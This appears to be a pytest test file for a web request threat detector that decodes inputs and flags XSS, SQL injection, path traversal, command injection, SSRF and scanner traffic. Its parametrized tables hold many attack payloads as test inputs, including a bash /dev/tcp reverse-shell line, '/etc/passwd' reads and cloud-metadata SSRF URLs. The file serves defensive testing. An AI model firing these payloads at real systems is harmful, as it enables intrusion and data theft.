from __future__ import annotations

import json
from types import MappingProxyType
from typing import Any

import pytest

from edgewatch.security import cmdi, sqli, ssrf, traversal, xss
from edgewatch.security.decode import MAX_VALUE_CHARS, Evasion, decode
from edgewatch.security.findings import Finding
from edgewatch.security.sample import MAX_JSON_DEPTH, FieldKind, fields
from edgewatch.security.threats import (
    Action,
    Inspection,
    Mode,
    Reason,
    RequestSample,
    RoutePolicy,
    ThreatClass,
    ThreatConfigError,
    ThreatHit,
    ThreatPolicies,
    ThreatPolicy,
    decide,
    detect,
    inspect_request,
    policies_from_config,
)

BLOCK = ThreatPolicy(Mode.BLOCK)


def get(query: str = "", path: str = "/api/test", **headers: str) -> RequestSample:
    return RequestSample("GET", path, query, {k.replace("_", "-"): v for k, v in headers.items()})


def post(body: str | bytes, content_type: str | None = "application/json", path: str = "/api/x") -> RequestSample:
    return RequestSample("POST", path, "", {}, body, content_type)


def rules(findings: list[Finding]) -> set[str]:
    return {f.rule for f in findings}


# --- decoding ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "form", "text", "evasions"),
    [
        ("%3Cscript%3E", False, "<script>", set()),  # one round is what every client sends
        ("%253Cscript%253E", False, "<script>", {Evasion.DOUBLE_ENCODING}),
        ("%25253Cb%25253E", False, "<b>", {Evasion.DOUBLE_ENCODING}),  # three rounds, the bound
        ("%2525253Cb%2525253E", False, "%3cb%3e", {Evasion.DOUBLE_ENCODING}),  # a fourth is not undone
        ("a+b", True, "a b", set()),  # form encoding: + is a space
        ("a+b", False, "a+b", set()),  # but not in a path or a JSON value
        ("a%2Bb", True, "a+b", set()),  # an encoded plus stays a plus
        ("%3cScRiPt%3E", False, "<script>", set()),  # mixed case, lower-cased for the detectors
        ("a%00b", False, "ab", {Evasion.NULL_BYTE}),
        ("..%c0%af..%C0%AF", False, "../../", {Evasion.OVERLONG_UTF8}),
        ("%2e%2E/", False, "../", {Evasion.ENCODED_DOT}),
        ("%u002e%u002e%u2215", False, "../", {Evasion.IIS_UNICODE, Evasion.UNICODE_FOLDING}),
        ("\uff1cscript\uff1e", False, "<script>", {Evasion.UNICODE_FOLDING}),  # fullwidth forms
        ("caf%C3%A9", False, "café", set()),  # UTF-8, and NFKC leaves é alone
        ("%zz%4", False, "%zz%4", set()),  # invalid escapes are kept as they are
        ("%ff%fe", False, "\ufffd\ufffd", set()),  # invalid UTF-8 becomes U+FFFD, never an error
    ],
)
def test_decode(raw: str, form: bool, text: str, evasions: set[Evasion]) -> None:
    decoded = decode(raw, form=form)
    assert decoded.text == text
    assert decoded.evasions == evasions


def test_decode_caps_the_value() -> None:
    decoded = decode("a" * (MAX_VALUE_CHARS + 10))
    assert decoded.truncated and len(decoded.text) == MAX_VALUE_CHARS
    assert not decode("a" * MAX_VALUE_CHARS).truncated


# --- where values come from ------------------------------------------------------------------


def test_fields_and_locations() -> None:
    sample = RequestSample(
        "POST",
        "/api/items",
        "?q=red+shoes&Sort=%2Dprice",
        {"User-Agent": "curl/8", "Referer": "https://x.example/", "X-Forwarded-For": "1.2.3.4, junk, [::1]"},
        json.dumps({"a": {"b": ["x", {"c d": "y"}]}, "n": 1}),
        "application/json; charset=utf-8",
    )
    got = [(f.location, f.kind, f.text) for f in fields(sample).fields]
    assert got == [
        ("path", FieldKind.PATH, "/api/items"),
        ("query.q#key", FieldKind.QUERY_KEY, "q"),
        ("query.q", FieldKind.QUERY, "red shoes"),
        ("query.Sort#key", FieldKind.QUERY_KEY, "sort"),  # locations keep the name's case
        ("query.Sort", FieldKind.QUERY, "-price"),
        ("header.user-agent", FieldKind.USER_AGENT, "curl/8"),
        ("header.referer", FieldKind.REFERER, "https://x.example/"),
        ("header.x-forwarded-for", FieldKind.FORWARDED_FOR, "junk"),  # addresses are not inspected
        ("body.$.a#key", FieldKind.BODY_KEY, "a"),
        ("body.$.a.b#key", FieldKind.BODY_KEY, "b"),
        ("body.$.a.b[0]", FieldKind.BODY, "x"),
        ('body.$.a.b[1]["c d"]#key', FieldKind.BODY_KEY, "c d"),
        ('body.$.a.b[1]["c d"]', FieldKind.BODY, "y"),
        ("body.$.n#key", FieldKind.BODY_KEY, "n"),  # numbers are not text
    ]


@pytest.mark.parametrize(
    ("sample", "location"),
    [
        (get("id=1%27%20OR%20%271%27%3D%271"), "query.id"),
        (get("%3Cscript%3Ealert(1)%3C%2Fscript%3E=1"), "query.<script>alert(1)</script>#key"),
        (get(User_Agent="sqlmap/1.7"), "header.user-agent"),
        (get(Referer='https://e.example/"><svg onload=alert(1)>'), "header.referer"),
        (get(X_Forwarded_For="1.2.3.4' OR 1=1--"), "header.x-forwarded-for"),
        (get(X_Scanner="Netsparker"), "header.x-scanner"),
        (get(path="/static/..%2f..%2f..%2fetc/passwd"), "path"),
        (post('{"comment": "<img src=x onerror=alert(1)>"}'), "body.$.comment"),
        (post('{"<img src=x onerror=alert(1)>": 1}'), 'body.$["<img src=x onerror=alert(1)>"]#key'),
        (post('{"a": [{"b": "; cat /etc/passwd"}]}'), "body.$.a[0].b"),
        (post("user=admin%27--&pw=x", "application/x-www-form-urlencoded"), "body.user"),
        (post("hello <script>alert(1)</script>", "text/plain"), "body"),
        (post('{"broken": "<script>alert(1)</script>"', "application/json"), "body"),  # invalid JSON: as text
        (post('{"a": "http://169.254.169.254/"}', None), "body.$.a"),  # no content type: sniffed
        (
            post(
                b'--b\r\nContent-Disposition: form-data; name="f"; filename="../../../etc/passwd"\r\n\r\nx\r\n--b--',
                "multipart/form-data; boundary=b",
            ),
            "body.f#filename",
        ),
    ],
)
def test_each_location_is_inspected(sample: RequestSample, location: str) -> None:
    hits = inspect_request(sample).hits
    assert location in {hit.location for hit in hits}, hits


def test_inspection_is_bounded_and_says_so() -> None:
    deep = "[" * (MAX_JSON_DEPTH + 5) + '"<script>"' + "]" * (MAX_JSON_DEPTH + 5)
    assert inspect_request(post(deep)).truncated
    many = "&".join(f"p{i}=v" for i in range(2000))
    assert inspect_request(get(many)).truncated
    assert inspect_request(get("q=" + "a" * (MAX_VALUE_CHARS + 1))).truncated
    assert not inspect_request(get("q=hello")).truncated


def test_a_long_text_body_is_read_in_overlapping_windows() -> None:
    body = "x" * (MAX_VALUE_CHARS - 10) + "<script>alert(1)</script>" + "y" * 20_000
    hits = inspect_request(post(body, "text/plain")).hits
    assert {hit.rule for hit in hits} == {"xss.script_tag"}


# --- detectors, one table per class ----------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("<script>alert('xss')</script>", {"xss.script_tag"}),
        ("<img src=x onerror=alert(1)>", {"xss.event_handler"}),
        ("<svg/onload=alert(1)>", {"xss.event_handler"}),  # "/" separates attributes too
        ("<img src=x onerror=alert(1)//", {"xss.event_handler"}),  # no closing ">"
        ('<a href="jav&#x09;ascript:alert(1)">', {"xss.script_url"}),  # entities, tab in the scheme
        ('<iframe src="data:text/html;base64,PHNjcmlwdD4=">', {"xss.data_url"}),
        ('<div style="x: expression(alert(1))">', {"xss.css_script"}),
        ('<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">', {"xss.event_handler"}),  # the inner document
        ("\\u003cscript\\u003ealert(1)", {"xss.script_tag"}),  # JavaScript escapes
        ("javascript:alert(document.cookie)", {"xss.script_url"}),  # a whole value that is a script URL
        ('" autofocus onfocus="alert(1)', {"xss.attribute_breakout"}),
        ("';alert(1)//", {"xss.script_breakout"}),
        ("{{constructor.constructor('alert(1)')()}}", {"xss.template_injection"}),
        ("data:text/html;base64,PHNjcmlwdD4=", {"xss.data_url"}),  # a whole value that is a data URL
        ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', {"xss.script_url"}),
        # harmless markup and text
        ('<p><b>bold</b> <a href="https://x.com">link</a></p>', set()),
        ('<img src="https://cdn.example/cat.png" alt="A cat">', set()),
        ("&lt;script&gt;alert(1)&lt;/script&gt;", set()),  # escaped: shown, not run
        ("javascript: the good parts (2008)", set()),  # a book title, not a URL
        ("a < b and c > d", set()),
        ('he said "go" once more', set()),
        ("{{ user.name }}", set()),
        ("console.log('x'); alert('done')", set()),  # ordinary code
    ],
)
def test_xss(value: str, expected: set[str]) -> None:
    assert rules(xss.scan(decode(value).text)) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("' OR '1'='1", {"sqli.tautology"}),
        ("1 AND 5678=5678", {"sqli.tautology"}),  # numeric context
        ('" OR ""="', {"sqli.tautology"}),  # double-quoted context
        ("admin'='", {"sqli.tautology"}),
        ("1 UNION SELECT NULL--", {"sqli.union_select"}),
        ("1 UNION/**/SELECT/**/1,2", {"sqli.union_select"}),  # comments for spaces
        ("1/*!50000UNION*//*!50000SELECT*/1", {"sqli.union_select"}),  # MySQL versioned comments
        ("1; DROP TABLE users", {"sqli.stacked_query"}),
        ("1' WAITFOR DELAY '0:0:5'--", {"sqli.time_delay"}),
        ("1' INTO OUTFILE '/var/www/x.php'--", {"sqli.file_write"}),
        ("admin'--", {"sqli.comment_breakout"}),
        ("admin'/*", {"sqli.comment_breakout"}),
        ("1' ORDER BY 3-- ", {"sqli.clause_probe"}),
        ("1' GROUP BY 1,2,-- ", {"sqli.clause_probe"}),
        ("1 PROCEDURE ANALYSE()", {"sqli.clause_probe"}),
        ("1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)", {"sqli.tautology", "sqli.time_delay", "sqli.blind_subquery"}),
        # prose and data that only look like SQL
        ("please select one item from the list", set()),
        ("drop table tennis", set()),
        ("union station", set()),
        ("O'Brien", set()),
        ("1=1 in math", set()),
        ("1 or 2 bedrooms", set()),
        ("Dunkin' and Krispy Kreme is better", set()),
        ("'yes' or 'no'", set()),
        ('it defaults to "=".', set()),  # a quote, "=", a quote: but prose before the break-out
        ("import time; time.sleep(5)", set()),
        ("$('#menu').toggle()", set()),  # a "#" that is a selector, not a comment
        ("SELECT id FROM users WHERE active = 1 ORDER BY name", set()),  # a statement, not a break-out
        ("'%s' --version", set()),  # an option, not a comment
    ],
)
def test_sqli(value: str, expected: set[str]) -> None:
    assert rules(sqli.scan(decode(value).text)) == expected


@pytest.mark.parametrize(
    ("value", "path", "expected"),
    [
        ("../../../etc/passwd", False, {"traversal.sensitive_file", "traversal.deep"}),
        ("../../x", False, {"traversal.dotdot"}),  # two levels alone: recorded, not blocked
        ("../img/logo.png", False, set()),  # one level: a relative link
        ("..%2f..%2fx", False, {"traversal.dotdot"}),
        ("%2e%2e/%2e%2e/x", False, {"traversal.dotdot", "traversal.evasion"}),  # encoded dots
        ("....//....//x", False, {"traversal.dotdot", "traversal.evasion"}),  # a single-pass filter
        ("..;/..;/web-inf/web.xml", False, {"traversal.sensitive_file", "traversal.dotdot", "traversal.evasion"}),
        ("..\\..\\..\\windows\\win.ini", False, {"traversal.sensitive_file", "traversal.deep"}),
        ("/etc/passwd", False, {"traversal.absolute_path"}),
        ("/static/../app.js", True, {"traversal.path_dotdot"}),  # in the path itself, one level is enough
        ("report..final.pdf", False, set()),
        ("wait...what", False, set()),
        ("edit /etc/hosts to add an entry", False, set()),  # prose that names a file
    ],
)
def test_traversal(value: str, path: bool, expected: set[str]) -> None:
    decoded = decode(value)
    assert rules(traversal.scan(decoded.text, decoded.evasions, path=path)) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("127.0.0.1; cat /etc/passwd", {"cmdi.command_chain"}),
        ("127.0.0.1 && whoami", {"cmdi.command_chain"}),
        ("x|id", {"cmdi.command_chain"}),
        ("127.0.0.1\nid", {"cmdi.command_chain"}),
        ("127.0.0.1; sleep 5", {"cmdi.command_chain"}),
        ("x; w'h'o'am'i", {"cmdi.command_chain"}),  # quotes inside the command word
        (";cat${IFS}/etc/passwd", {"cmdi.command_chain"}),
        ("; /usr/bin/id", {"cmdi.command_chain"}),
        ("$(id)", {"cmdi.substitution"}),
        ("127.0.0.1`whoami`", {"cmdi.substitution"}),
        ("{cat,/etc/passwd}", {"cmdi.substitution"}),
        ("() { :; }; /bin/bash -c id", {"cmdi.shellshock"}),
        ('<!--#exec cmd="/bin/cat /etc/passwd"-->', {"cmdi.server_side_include"}),
        ("x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", {"cmdi.reverse_shell", "cmdi.command_chain"}),
        ("hello world; cat /etc/passwd", {"cmdi.command_in_text"}),  # in prose, only a system file counts
        # shell-like prose
        ("use ls -la to list", set()),
        ("salt; pepper; cat lovers", set()),
        ("see you at 5; ping me later", set()),
        ("Run `uname -a` to see the kernel", set()),  # Markdown code, not a substitution
        ("`type`, if set, is mixed in", set()),
        ("curl https://get.example | bash", set()),  # install instructions in a post
        ("$(document).ready(fn)", set()),
        ("Tom & Jerry", set()),
        ("```bash\nnode -r x\n```", set()),
        ("(http|ftp)://", set()),  # an alternation in a pattern
    ],
)
def test_cmdi(value: str, expected: set[str]) -> None:
    assert rules(cmdi.scan(decode(value).text)) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("http://169.254.169.254/latest/meta-data/", {"ssrf.cloud_metadata"}),
        ("http://metadata.google.internal/computeMetadata/v1/", {"ssrf.cloud_metadata"}),
        ("http://0xa9fea9fe/", {"ssrf.cloud_metadata", "ssrf.obfuscated_ip"}),
        ("http://127.0.0.1/admin", {"ssrf.internal_address"}),
        ("http://10.0.0.5/", {"ssrf.internal_address"}),
        ("http://172.16.0.1/", {"ssrf.internal_address"}),
        ("http://192.168.1.1/", {"ssrf.internal_address"}),
        ("http://[::1]/", {"ssrf.internal_address"}),
        ("http://[::ffff:127.0.0.1]/", {"ssrf.internal_address", "ssrf.obfuscated_ip"}),
        ("http://2130706433/", {"ssrf.internal_address", "ssrf.obfuscated_ip"}),
        ("http://0x7f000001/", {"ssrf.internal_address", "ssrf.obfuscated_ip"}),
        ("http://0177.0.0.1/", {"ssrf.internal_address", "ssrf.obfuscated_ip"}),
        ("http://127.1/", {"ssrf.internal_address", "ssrf.obfuscated_ip"}),
        ("http://evil.example@127.0.0.1/", {"ssrf.internal_address"}),  # userinfo is not the host
        ("http://localhost:8080/", {"ssrf.internal_host"}),
        ("http://LOCALHOST./", {"ssrf.internal_host"}),
        ("http://10.0.0.1.nip.io/", {"ssrf.rebinding_host"}),
        ("//169.254.169.254/", {"ssrf.cloud_metadata"}),
        ("file:///etc/passwd", {"ssrf.dangerous_scheme"}),
        ("gopher://127.0.0.1:6379/_x", {"ssrf.dangerous_scheme", "ssrf.internal_address"}),
        ("dict://127.0.0.1:11211/", {"ssrf.dangerous_scheme", "ssrf.internal_address"}),
        ("169.254.169.254", {"ssrf.cloud_metadata"}),  # a bare metadata address
        # URLs and numbers that are fine
        ("https://example.com/page", set()),
        ("/dashboard", set()),
        ("http://8.8.8.8/", set()),
        ("I run it at http://localhost:3000 locally", set()),  # prose, not a URL value
        ("2130706433", set()),  # a number is an id
        ("127.1", set()),
        ("file: report.pdf", set()),
        ("localhost", set()),
    ],
)
def test_ssrf(value: str, expected: set[str]) -> None:
    assert rules(ssrf.scan(decode(value).text)) == expected


@pytest.mark.parametrize(
    ("host", "address", "unusual"),
    [
        ("127.0.0.1", "127.0.0.1", False),
        ("2130706433", "127.0.0.1", True),
        ("0x7f.1", "127.0.0.1", True),
        ("0177.0.0.01", "127.0.0.1", True),
        ("127.000.000.001", "127.0.0.1", True),  # leading zeros are octal
        ("10.1", "10.0.0.1", True),
        ("1.2.3.4.", "1.2.3.4", False),  # a trailing dot
        ("256.1.1.1", None, False),
        ("08.1.1.1", None, False),  # 8 is not an octal digit
        ("example.com", None, False),
        ("1.2.3.4.5", None, False),
    ],
)
def test_parse_ipv4_like_a_browser(host: str, address: str | None, unusual: bool) -> None:
    parsed = ssrf.parse_ipv4(host)
    assert (None if parsed is None else (str(parsed[0]), parsed[1])) == (
        None if address is None else (address, unusual)
    )


@pytest.mark.parametrize(
    ("user_agent", "scanner"),
    [
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", True),
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", True),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", True),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", True),
        ("WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)", True),
        ("gobuster/3.6", True),
        ("Mozilla/5.0 zgrab/0.x", True),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", True),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0", False),
        ("curl/8.4.0", False),
        ("python-requests/2.31.0", False),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", False),
        ("UptimeRobot/2.0 (https://uptimerobot.com/)", False),
    ],
)
def test_scanner_user_agents(user_agent: str, scanner: bool) -> None:
    verdict = detect(get(User_Agent=user_agent), BLOCK)
    assert (verdict.primary is ThreatClass.SCANNER) is scanner
    assert (verdict.action is Action.BLOCK) is scanner


# --- the seed probe --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    ["param=<script>alert('xss')</script>", "param=%3Cscript%3Ealert('xss')%3C%2Fscript%3E"],
)
def test_seed_probe_is_blocked_as_xss(query: str) -> None:
    verdict = detect(get(query), BLOCK)
    assert verdict.primary is ThreatClass.XSS
    assert verdict.action is Action.BLOCK and verdict.reason is Reason.BLOCK_SCORE
    assert [(h.rule, h.location) for h in verdict.hits] == [("xss.script_tag", "query.param")]
    assert verdict.hits[0].excerpt.startswith("<script>alert('xss')")


# --- scoring and decisions -------------------------------------------------------------------


def hit(score: float, threat: ThreatClass = ThreatClass.SQLI, location: str = "query.q") -> ThreatHit:
    return ThreatHit(threat, f"{threat.value}.rule", location, score, "x")


@pytest.mark.parametrize(
    ("hits", "policy", "score", "action", "reason"),
    [
        ((), BLOCK, 0, Action.ALLOW, Reason.CLEAN),
        ((hit(20),), BLOCK, 20, Action.ALLOW, Reason.BELOW_RECORD_SCORE),
        ((hit(30),), BLOCK, 30, Action.MONITOR, Reason.RECORD_SCORE),  # thresholds are inclusive
        ((hit(69.9),), BLOCK, 69.9, Action.MONITOR, Reason.RECORD_SCORE),
        ((hit(70),), BLOCK, 70, Action.BLOCK, Reason.BLOCK_SCORE),
        ((hit(40), hit(40, location="body")), BLOCK, 80, Action.BLOCK, Reason.BLOCK_SCORE),  # hits add up
        ((hit(90), hit(90, ThreatClass.XSS)), BLOCK, 100, Action.BLOCK, Reason.BLOCK_SCORE),  # capped at 100
        ((hit(90),), ThreatPolicy(Mode.MONITOR), 90, Action.MONITOR, Reason.MONITOR_ONLY),  # monitor never blocks
        ((hit(90),), ThreatPolicy(Mode.OFF), 0, Action.ALLOW, Reason.DISABLED),
        ((hit(50),), ThreatPolicy(Mode.BLOCK, block_score=50, record_score=10), 50, Action.BLOCK, Reason.BLOCK_SCORE),
        # a class weight of 0.5 halves its hits, 0 drops them
        ((hit(90, ThreatClass.SCANNER),), ThreatPolicy(Mode.BLOCK, weights={ThreatClass.SCANNER: 0.5}), 45,
         Action.MONITOR, Reason.RECORD_SCORE),
        ((hit(90, ThreatClass.SCANNER),), ThreatPolicy(Mode.BLOCK, weights={ThreatClass.SCANNER: 0}), 0,
         Action.ALLOW, Reason.CLEAN),
    ],
)  # fmt: skip
def test_decide(
    hits: tuple[ThreatHit, ...], policy: ThreatPolicy, score: float, action: Action, reason: Reason
) -> None:
    verdict = decide(Inspection(hits, False), policy)
    assert (verdict.score, verdict.action, verdict.reason) == (score, action, reason)


def test_verdict_orders_hits_and_names_the_primary_class() -> None:
    hits = (hit(30, ThreatClass.SSRF, "query.a"), hit(50, ThreatClass.XSS, "query.b"), hit(40, ThreatClass.SSRF, "b"))
    verdict = decide(Inspection(hits, True), BLOCK)
    assert [h.score for h in verdict.hits] == [50, 40, 30]
    assert verdict.primary is ThreatClass.SSRF  # 70 in total beats 50
    assert verdict.class_scores() == {ThreatClass.SSRF: 70, ThreatClass.XSS: 50}
    assert verdict.to_json() == {
        "score": 100.0,
        "action": "block",
        "reason": "block_score",
        "primary": "ssrf",
        "truncated": True,
        "hits": [h.to_json() for h in verdict.hits],
    }
    assert verdict.hits[0].to_json() == {
        "class": "xss",
        "rule": "xss.rule",
        "location": "query.b",
        "score": 50,
        "excerpt": "x",
    }


def test_the_same_rule_at_one_location_counts_once() -> None:
    verdict = detect(get("q=<script>1</script><script>2</script>&r=<script>3</script>"), BLOCK)
    assert [(h.rule, h.location) for h in verdict.hits] == [
        ("xss.script_tag", "query.q"),
        ("xss.script_tag", "query.r"),
    ]


def test_off_inspects_nothing() -> None:
    verdict = detect(get("q=<script>alert(1)</script>"), ThreatPolicy(Mode.OFF))
    assert verdict.hits == () and verdict.reason is Reason.DISABLED


def test_excerpts_hold_no_control_characters() -> None:
    verdict = detect(get("q=%0a%0d<script>%1balert(1)</script>"), BLOCK)
    assert verdict.hits and all(c >= " " for h in verdict.hits for c in h.excerpt)


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"record_score": 0}, "0 < record_score <= block_score"),
        ({"record_score": 80, "block_score": 70}, "0 < record_score <= block_score"),
        ({"weights": {ThreatClass.XSS: -1}}, "weights must not be negative"),
    ],
)
def test_policy_validation(kwargs: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        ThreatPolicy(**kwargs)


# --- per-route policies and their configuration ----------------------------------------------

MONITOR = ThreatPolicy(Mode.MONITOR)
ROUTES = ThreatPolicies(
    MONITOR,
    (
        RoutePolicy("/api/*", ThreatPolicy(Mode.BLOCK)),
        RoutePolicy("/api/auth/*", ThreatPolicy(Mode.BLOCK, block_score=40)),
        RoutePolicy("/api/webhooks/github", ThreatPolicy(Mode.OFF)),
    ),
)


@pytest.mark.parametrize(
    ("path", "mode", "block_score"),
    [
        ("/", Mode.MONITOR, 70),  # no route: the default
        ("/api/items", Mode.BLOCK, 70),
        ("/api/auth/login", Mode.BLOCK, 40),  # the most specific route wins
        ("/api/webhooks/github", Mode.OFF, 70),  # an exact path beats a wildcard
        ("/api/webhooks/github/", Mode.OFF, 70),
        ("/api/%61uth/login", Mode.BLOCK, 40),  # another spelling of the same path
        ("/api/x/../auth/login", Mode.BLOCK, 40),
        ("/apix", Mode.MONITOR, 70),
    ],
)
def test_policy_for_path(path: str, mode: Mode, block_score: float) -> None:
    policy = ROUTES.for_path(path)
    assert (policy.mode, policy.block_score) == (mode, block_score)


def test_of_two_routes_with_one_pattern_the_first_wins() -> None:
    first, second = ThreatPolicy(Mode.BLOCK), ThreatPolicy(Mode.OFF)
    policies = ThreatPolicies(MONITOR, (RoutePolicy("/a/*", first), RoutePolicy("/a/*", second)))
    assert policies.for_path("/a/b") is first


def test_the_same_request_is_blocked_or_monitored_by_route() -> None:
    probe = "q=<script>alert(1)</script>"
    blocked = detect(get(probe, "/api/items"), ROUTES.for_path("/api/items"))
    monitored = detect(get(probe, "/"), ROUTES.for_path("/"))
    assert (blocked.action, monitored.action) == (Action.BLOCK, Action.MONITOR)
    assert monitored.reason is Reason.MONITOR_ONLY


def test_policies_from_config() -> None:
    policies = policies_from_config(
        {
            "mode": "monitor",
            "blockScore": 75,
            "recordScore": 25,
            "weights": {"scanner": 0.5},
            "routes": [
                {"endpoint": "/api/auth/*", "mode": "block"},
                {"endpoint": "/health", "mode": "off", "weights": {"xss": 2}},
            ],
        }
    )
    default = ThreatPolicy(Mode.MONITOR, 75, 25, MappingProxyType({ThreatClass.SCANNER: 0.5}))
    assert policies.default == default
    auth = policies.for_path("/api/auth/login")
    assert (auth.mode, auth.block_score, auth.record_score, auth.weight(ThreatClass.SCANNER)) == (
        Mode.BLOCK,
        75,
        25,
        0.5,
    )  # a route overrides only what it names
    health = policies.for_path("/health")
    assert health.mode is Mode.OFF
    assert (health.weight(ThreatClass.XSS), health.weight(ThreatClass.SCANNER)) == (2, 0.5)
    assert policies_from_config({}) == ThreatPolicies()


@pytest.mark.parametrize(
    ("config", "problems"),
    [
        ("monitor", ["threats: expected an object"]),
        ({"mode": "panic"}, ["threats.mode: expected one of off, monitor, block"]),
        ({"blockScore": 0}, ["threats.blockScore: expected a number in (0, 100]"]),
        ({"recordScore": True}, ["threats.recordScore: expected a number in (0, 100]"]),
        ({"recordScore": 80, "blockScore": 70}, ["threats: recordScore (80) must not exceed blockScore (70)"]),
        ({"weights": {"spam": 1}}, ["threats.weights.spam: unknown class, expected one of xss, sqli, traversal, "
                                    "cmdi, ssrf, scanner"]),
        ({"weights": {"xss": 11}}, ["threats.weights.xss: expected a number from 0 to 10"]),
        ({"weights": []}, ["threats.weights: expected an object of class to weight"]),
        ({"colour": "red"}, ["threats.colour: unknown field"]),
        ({"routes": {}}, ["threats.routes: expected a list"]),
        ({"routes": [{"mode": "block"}]}, ["threats.routes[0].endpoint: expected a path pattern such as '/api/*'"]),
        ({"routes": [{"endpoint": "/a/*/b"}]},
         ["threats.routes[0].endpoint: expected a path pattern such as '/api/*'"]),
        ({"routes": [{"endpoint": "/a", "mode": "x", "routes": []}]},
         ["threats.routes[0].routes: unknown field", "threats.routes[0].mode: expected one of off, monitor, block"]),
        ({"mode": "x", "routes": [{"endpoint": "/a", "blockScore": -1}]},
         ["threats.mode: expected one of off, monitor, block",
          "threats.routes[0].blockScore: expected a number in (0, 100]"]),
    ],
)  # fmt: skip
def test_policies_from_config_names_every_problem(config: object, problems: list[str]) -> None:
    with pytest.raises(ThreatConfigError) as caught:
        policies_from_config(config)
    assert caught.value.problems == problems
    assert str(caught.value) == "threat detection config: " + "; ".join(problems)
